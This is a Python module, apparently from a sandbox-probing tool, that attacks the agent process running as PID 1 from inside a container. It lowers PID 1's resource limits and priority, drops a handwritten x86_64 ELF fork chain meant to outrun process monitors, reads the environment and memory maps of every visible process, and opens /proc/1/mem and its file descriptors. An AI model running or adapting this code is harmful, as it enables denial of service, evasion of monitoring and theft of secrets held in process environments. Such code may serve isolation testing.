"""Attempts of root inside on the agent, which has the same user, and on the process that started it."""

from __future__ import annotations

import os
import resource
import struct
from contextlib import suppress
from typing import Any

from dutyfree.probe.payload.kernel import ARM

_LIMITS = ("NOFILE", "NPROC", "AS", "FSIZE", "STACK", "CPU", "MEMLOCK", "SIGPENDING")


def bind_agent(only: str = "") -> dict[str, Any]:
    """Lower the limits, the priority and the processors of PID 1; what was answered."""
    done = []
    for name in [only] if only else _LIMITS:
        with suppress(OSError, ValueError):
            kind = getattr(resource, f"RLIMIT_{name}")
            resource.prlimit(1, kind, (1, resource.prlimit(1, kind)[1] if name == "CPU" else 1))
            done.append(name)
    if only:
        return {"done": done}
    with suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, 1, 19)
        done.append("priority")
    with suppress(OSError):
        os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))
        done.append("scheduler")
    with suppress(OSError):
        os.sched_setaffinity(1, {min(os.sched_getaffinity(0))})
        done.append("processors")
    return {"done": done}


_ADDRESS = 0x400000
_FORKS = 150_000
_RELAY = (
    b"\xbb" + struct.pack("<I", _FORKS)  # mov ebx, how often
    + b"\xff\xcb\x74\x0b"  # dec ebx; jz to the end
    + b"\xb8\x39\0\0\0\x0f\x05"  # fork
    + b"\x85\xc0\x74\xf1"  # the child: again
    + b"\x31\xff\xb8\x3c\0\0\0\x0f\x05"  # the parent: exit 0
)  # fmt: skip
"""What forks as fast as the machine can: in Python a fork takes longer than somebody else's look at all processes."""


def _program(code: bytes) -> bytes:
    """An ELF file for x86_64 of nothing but the code."""
    size = 120 + len(code)
    start = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 2, 62, 1, _ADDRESS + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return start + struct.pack("<IIQQQQQQ", 1, 5, 0, _ADDRESS, _ADDRESS, size, size, 4096) + code


def relay(chains: int, mark: str) -> dict[str, Any]:
    """Chains of processes, each of which forks and ends at once: whoever looks for them comes too late."""
    path = f"/tmp/{mark}"  # noqa: S108
    fd = os.open(path, os.O_CREAT | os.O_WRONLY, 0o755)
    os.write(fd, _program(_RELAY))
    os.close(fd)
    for _ in range(chains):
        if os.fork() == 0:
            os.setsid()
            if not ARM:
                os.execv(path, [path, mark])
            for _ in range(_FORKS // 30):
                if os.fork() > 0:
                    os._exit(0)
            os._exit(0)
    return {}


def names() -> dict[str, Any]:
    """Read the names that visible processes and the machine give of themselves."""
    found = {}
    for entry in [*filter(str.isdecimal, os.listdir("/proc")), "self"]:
        if entry in (str(os.getpid()), "self"):
            continue
        for name in ("cmdline", "environ", "comm", "cgroup", "mountinfo", "maps"):
            with suppress(OSError), open(f"/proc/{entry}/{name}", errors="replace") as file:
                found[f"{entry}/{name}"] = file.read(1 << 16)
    return {"found": found}


def open_agent() -> dict[str, Any]:
    """Descriptors and memory of PID 1, by a process that may have been given them by a setting of the machine."""
    found = []
    for name in ("fd", "map_files"):
        with suppress(OSError):
            found += [f"{name}/{entry}" for entry in os.listdir(f"/proc/1/{name}")]
    for name in ("maps", "mem", "environ", "auxv"):
        with suppress(OSError), open(f"/proc/1/{name}", "rb") as file:
            file.read(1) if name != "mem" else None
            found.append(name)
    return {"found": found}


ATTEMPTS = {"bind-agent": bind_agent, "relay": relay, "names": names, "open-agent": open_agent}
